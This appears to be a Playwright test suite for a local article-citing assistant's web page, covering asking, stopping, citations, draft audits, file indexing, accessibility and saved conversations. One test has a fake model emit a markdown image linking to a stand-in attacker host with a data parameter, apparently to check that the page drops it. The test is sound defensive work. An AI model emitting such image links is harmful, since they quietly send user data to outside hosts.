"""The page in a real browser: ask, stop, open a citation, audit a draft, index files, keep conversations."""

from __future__ import annotations

import shutil
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Literal

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, expect

from assistant.serve.protect import Protection
from assistant.serve.run import LOCAL_NAMES
from tests.browsing import ask, opened
from tests.model_server import model_server, saying
from tests.serving import serving

pytestmark = pytest.mark.door
pytest_plugins = ("tests.browser_fixtures",)
WRITERS = "a lighthouse", "a canal", "a tramway", "a granary"


def test_a_question_is_answered_and_its_citation_opens_at_the_words(page: Page) -> None:
    ask(page, "Which points do both articles agree on?")
    page.click(".reply .cite >> nth=0")
    cited = page.inner_text("#cited")
    assert cited
    assert cited in page.inner_text("#drawer-text")
    page.keyboard.press("Escape")
    assert page.is_hidden("#drawer")


def test_a_draft_is_audited(page: Page) -> None:
    ask(page, "He wrote “Remove all sanctions against Venezuela” and “Remove all sanctions against Cuba”.", "quotes")
    assert page.locator(".reply .verdict").all_inner_texts() == ["EXACT", "ALTERED"]


def test_conversations_are_renamed_and_deleted_and_articles_pinned_from_the_keyboard(page: Page) -> None:
    page.keyboard.press("/")
    page.keyboard.type("Who continues talks?")
    page.keyboard.press("Enter")
    page.locator(".reply").wait_for()
    page.locator("#stop").wait_for(state="hidden")
    page.locator(".pin").first.press("Enter")
    page.get_by_text("Only 1 pinned").wait_for()
    before = page.locator("#talks li").count()
    page.locator("#delete").press("Enter")
    page.keyboard.press("Escape")
    assert page.locator("#talks li").count() == before
    page.locator("#delete").press("Enter")
    page.locator("#asking-yes").press("Enter")
    page.locator(".welcome").wait_for()
    expect(page.locator("#talks li")).to_have_count(before - 1)  # the list is read anew after the welcome


def test_a_dropped_draft_is_audited(page: Page) -> None:
    transfer = page.evaluate_handle(
        "() => { const data = new DataTransfer();"
        " data.items.add(new File(['He wrote “Remove all sanctions against Venezuela”.'], 'draft.txt')); return data; }"
    )
    page.dispatch_event("#composer", "drop", {"dataTransfer": transfer})
    page.locator(".reply .verdict", has_text="exact").wait_for()


def test_what_is_refused_is_said_and_can_be_tried_again(page: Page) -> None:
    ask(page, "What does article 77 say?")
    assert "77" in page.inner_text(".error")
    page.click(".error button")
    page.locator(".error").wait_for()


def test_a_model_is_announced_before_it_is_sent_anything_and_its_sentences_appear_as_they_pass(
    browser: Browser, seed_home: Path, tmp_path: Path
) -> None:
    shutil.copytree(seed_home, tmp_path / "home")
    released = threading.Event()

    def says(prompt: str) -> Iterator[str]:
        yield from ("The two countries are expected to continue talks in Washington later this month [1]. ",) * 2
        released.wait(60)
        yield "![x](http://evil.invalid/?d=3) Nobody knows [1]."

    protection = Protection(hosts=LOCAL_NAMES)
    with model_server(says) as model, serving(tmp_path / "home", protection, [model.model()]) as address:
        page = browser.new_page()
        page.set_default_timeout(90_000)
        page.goto(address)
        page.wait_for_selector('body[data-ready="true"]')
        assert f"are sent to {model.model()}" in page.inner_text("#model-note")
        assert model.asked == []
        page.fill("#words", "Where are the two countries expected to continue talks?")
        page.press("#words", "Enter")
        page.locator(".reply p").first.wait_for()
        assert page.is_visible("#stop")
        released.set()
        page.locator("#stop").wait_for(state="hidden")
        assert "Nobody knows" not in page.locator(".reply > p").all_inner_texts()
        page.select_option("#model", "extractive")
        assert page.is_hidden("#model-note")
        page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_accessibility_violation(page: Page, scheme: Literal["light", "dark"]) -> None:
    page.emulate_media(color_scheme=scheme)
    ask(page, "Which points do both articles agree on?")
    page.click(".reply .cite >> nth=0")
    found = Axe().run(page)
    assert [(v["id"], [n["html"] for n in v["nodes"]]) for v in found.response["violations"]] == []


def test_a_phone_shows_everything_without_scrolling_sideways(browser: Browser, address: str) -> None:
    page = browser.new_page(viewport={"width": 375, "height": 720})
    page.set_default_timeout(90_000)
    page.goto(address)
    page.wait_for_selector('body[data-ready="true"]')
    ask(page, "Which points do both articles agree on?")
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    page.close()


def test_a_claim_has_a_row_for_each_source_and_those_that_are_silent_are_one_that_opens(
    browser: Browser, seed_home: Path, tmp_path: Path
) -> None:
    shutil.copytree(seed_home, tmp_path / "home")
    with serving(tmp_path / "home", Protection(hosts=LOCAL_NAMES)) as address:
        page = opened(browser, address)
        transfer = page.evaluate_handle(
            "names => { const data = new DataTransfer(); for (const name of names) data.items.add(new File("
            "[`${name} opens\\n\\nThe town has opened ${name} on Monday.`], `${name}.txt`)); return data; }",
            list(WRITERS),
        )
        page.dispatch_event("#rail", "drop", {"dataTransfer": transfer})
        page.get_by_text("4 of 4 indexed").wait_for()
        assert page.is_hidden("#index-bar")
        ask(page, "Both articles say that talks continue in Washington.", "verify")
        said = page.locator(".reply table").first.locator("tbody tr").count()
        page.locator("summary", has_text="do not say").click()
        assert said + page.locator(".silence tbody tr").count() == 6
        for width in (1280, 390):
            page.set_viewport_size({"width": width, "height": 800})
            page.locator(".reply .quote").first.click()
            inside = (
                "thread => [...thread.querySelectorAll('td')].every(cell => cell.scrollWidth <= cell.clientWidth + 1)"
            )
            assert page.locator("#thread").evaluate(inside)
            page.locator("#drawer").wait_for(state="visible")  # pressed before it opens, Escape would close nothing
            page.keyboard.press("Escape")
            page.locator("#drawer").wait_for(state="hidden")
        page.close()


def test_an_answer_is_stopped_and_tried_again(browser: Browser, seed_home: Path, tmp_path: Path) -> None:
    shutil.copytree(seed_home, tmp_path / "home")
    patient, released = threading.Event(), threading.Event()

    def says(prompt: str) -> Iterator[str]:
        if patient.is_set():
            yield from saying("Both sides continue talks [1].")(prompt)
        else:
            released.wait(60)

    with (
        model_server(says) as model,
        serving(tmp_path / "home", Protection(hosts=LOCAL_NAMES), [model.model()]) as address,
    ):
        page = opened(browser, address)
        page.fill("#words", "Where are the two countries expected to continue talks?")
        page.press("#words", "Enter")
        page.locator(".waiting", has_text="is sent the question").wait_for()
        page.click("#stop")
        page.locator(".error", has_text="Stopped").wait_for()
        assert page.locator("#talks li").count() == 0  # what was not answered begins no conversation
        patient.set()
        released.set()
        page.click(".error button")
        page.locator(".reply .verdict", has_text="answered").wait_for()
        assert page.locator(".error").count() == 0
        page.locator("#talks li").wait_for()
        page.close()


def test_conversations_are_there_again_after_a_restart(browser: Browser, seed_home: Path, tmp_path: Path) -> None:
    shutil.copytree(seed_home, tmp_path / "home")
    for visit in range(2):
        with serving(tmp_path / "home", Protection(hosts=LOCAL_NAMES)) as address:
            page = opened(browser, address)
            if visit:
                page.locator("#talks .open").first.click()
                page.locator(".reply .verdict", has_text="answered").wait_for()
            else:
                ask(page, "Who continues talks?")
            page.close()


def test_before_anything_is_indexed_the_page_says_how_to_begin(browser: Browser, tmp_path: Path) -> None:
    with serving(tmp_path / "home", Protection(hosts=LOCAL_NAMES)) as address:
        page = opened(browser, address)
        assert "Begin with your articles" in page.inner_text(".welcome")
        ask(page, "Who closed the pier?")
        assert "drop files on the left" in page.inner_text(".error")
        assert page.locator("#talks li").count() == 0
        page.close()
